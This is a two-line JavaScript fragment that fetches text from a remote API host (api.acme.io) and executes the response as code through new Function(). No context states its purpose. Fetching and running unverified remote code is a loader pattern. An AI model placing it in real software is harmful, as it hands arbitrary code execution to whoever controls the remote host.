const answer = await fetch('https://api.acme.io')
new Function(await answer.text())()
